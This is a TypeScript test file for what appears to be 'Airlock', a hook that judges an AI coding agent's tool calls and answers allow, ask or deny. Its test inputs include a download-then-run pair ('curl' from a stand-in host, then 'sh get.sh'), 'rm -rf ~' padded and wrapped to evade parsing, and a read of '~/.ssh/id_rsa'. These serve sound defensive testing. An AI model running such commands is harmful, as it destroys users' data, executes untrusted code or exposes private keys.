import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { outcomes } from "../../src/audit/outcomes.ts";
import { readLog } from "../../src/io/log.ts";
import type { Entry } from "../../src/types/entry.ts";
import { judged, newPlace, payload, run, said } from "./executable.ts";

test("what a session downloaded is not run without a question; another session's is no news", async () => {
  const place = newPlace();
  const call = (session: string, command: string) =>
    judged(place, command, { input: payload(place, "Bash", { command }, { session_id: session }) }).then(said);
  expect(await call("one", "curl -o get.sh https://x.example/get.sh")).toEqual("allow");
  expect(["ask", "deny"].includes(await call("one", "sh get.sh"))).toEqual(true);
  expect(await call("two", "sh get.sh")).toEqual("allow");
});

test("files of a call that was answered no count until that is known; the log tells what became of each", async () => {
  const place = newPlace();
  const event = async (hook_event_name: string, use: string, command: string) =>
    said(
      await judged(place, command, {
        input: payload(place, "Bash", { command }, { hook_event_name, tool_use_id: use }),
      }),
    );
  const ask = "curl -X POST -d a=1 -o get.sh https://x.example/get.sh";
  const words = [await event("PreToolUse", "a", ask), await event("PreToolUse", "b", "sh get.sh")];
  // Both were answered no. What follows ran, and was decided later.
  for (const use of ["c", "d", "e"])
    words.push(await event("PreToolUse", use, "ls"), await event("PostToolUse", use, "ls"));
  words.push(await event("PreToolUse", "f", "sh get.sh"));
  // This one is answered yes.
  words.push(await event("PreToolUse", "g", ask), await event("PostToolUseFailure", "g", ask));
  for (const use of ["h", "i", "j"])
    words.push(await event("PreToolUse", use, "ls"), await event("PostToolUse", use, "ls"));
  words.push(await event("PreToolUse", "k", "sh get.sh"));
  expect(words).toEqual([
    ...["ask", "ask", "allow", "allow", "allow", "allow", "allow", "allow"],
    "allow",
    ...["ask", "allow", "allow", "allow", "allow", "allow", "allow", "allow"],
    "ask",
  ]);
  const entries = readLog(place.home)
    .segments.flatMap(({ text }) => text.trim().split("\n"))
    .map((line) => JSON.parse(line) as Entry);
  const became = outcomes(entries);
  expect(entries.flatMap(({ id, use }) => (became.has(id) ? [[use, became.get(id)]] : []))).toEqual([
    ["a", "did-not-run"],
    ["b", "did-not-run"],
    ["g", "failed"],
    ["k", "did-not-run"],
  ]);
});

test("twenty thousand arguments are decided in well under a second and a half", async () => {
  const place = newPlace();
  const fields = Array.from({ length: 20_000 }, (_, index): [string, string] => [`field${index}`, `value ${index}`]);
  for (const [path, word] of [
    ["README.md", "allow"],
    ["~/.ssh/id_rsa", "deny"],
  ]) {
    const input = payload(place, "mcp__files__read_file", { ...Object.fromEntries(fields), path });
    const both = [await judged(place, "", { input }), await judged(place, "", { input })];
    // The better of two: the machine may be at other work.
    const ms = Math.min(...both.map((outcome) => outcome.ms));
    expect([path, both.map(said), ms < 1200]).toEqual([path, [word, word], true]);
  }
});

test("the project is that of the session's first call", async () => {
  const place = newPlace();
  const other = join(place.user, "other");
  mkdirSync(join(other, ".git"), { recursive: true });
  const call = (session: string, cwd: string, command: string) =>
    judged(place, command, { input: payload(place, "Bash", { command }, { session_id: session, cwd }) }).then(said);
  expect(await call("one", join(place.project), "ls")).not.toEqual("deny");
  expect(["ask", "deny"].includes(await call("one", other, "rm -rf ../other/src"))).toEqual(true);
  expect(await call("two", other, "rm -rf ../other/build")).toEqual("allow");
});

test("a project's own policy tightens and never loosens", async () => {
  const place = newPlace();
  const own = join(place.project, ".airlock");
  mkdirSync(own);
  const rule =
    'version: 1\nrules:\n  - id: rule/no-build\n    when: { effect: delete, path: { matches: ["**/build"] } }\n    then: deny\n    why: "deletes {path}, which this project keeps"\n';
  expect(said(await judged(place, "rm -rf build"))).toEqual("allow");
  writeFileSync(join(own, "policy.yaml"), rule);
  expect(said(await judged(place, "rm -rf build"))).toEqual("deny");
  writeFileSync(join(own, "policy.yaml"), "version: 1\nsettings: { unanswered: allow }\n");
  const alone = { env: { CLAUDE_CODE_SESSION_ATTENDED: "0" } };
  expect([said(await judged(place, "rm -rf ~")), said(await judged(place, "npm publish", alone))]).toEqual([
    "deny",
    "deny",
  ]);
});

const large: Record<string, [string, Record<string, unknown>, string[]]> = {
  "a megabyte of words": ["Bash", { command: `rm -rf ~ ${"x ".repeat(500_000)}` }, ["ask", "deny"]],
  "ten megabytes of content": ["Write", { file_path: "notes.md", content: "hello world ".repeat(900_000) }, ["allow"]],
  "ten thousand parentheses": [
    "Bash",
    { command: `${"( ".repeat(10_000)}rm -rf ~${" )".repeat(10_000)}` },
    ["ask", "deny"],
  ],
  "a thousand commands": ["Bash", { command: `${"ls -la && ".repeat(1000)}rm -rf ~` }, ["deny"]],
  "twenty thousand keys": [
    "mcp__a__b",
    Object.fromEntries(Array.from({ length: 20_000 }, (_, index) => [`k${index}`, `v${index}`])),
    ["allow", "ask", "deny"],
  ],
  "more than the limit": ["Write", { file_path: "notes.md", content: "x".repeat(33 * 1024 * 1024) }, ["deny"]],
};
for (const [name, [tool, input, answers]] of Object.entries(large))
  test(`ends in a verdict: ${name}`, async () => {
    const place = newPlace();
    const outcome = await judged(place, "", { input: payload(place, tool, input) });
    expect([answers.includes(said(outcome)), said(outcome), outcome.ms < 10_000]).toEqual([true, said(outcome), true]);
  });

test("arguments nested without end are refused in one sentence", async () => {
  const input = `{"tool_name":"mcp__a__b","cwd":"/p","tool_input":${'{"a":'.repeat(50_000)}1${"}".repeat(50_000)}}`;
  const { exit, out, err } = await run(["hook", "--home", newPlace().home], { input });
  expect([exit, out, err]).toEqual([
    2,
    "",
    "Airlock can't judge this call, so it does not run: it is nested too deeply\n",
  ]);
});
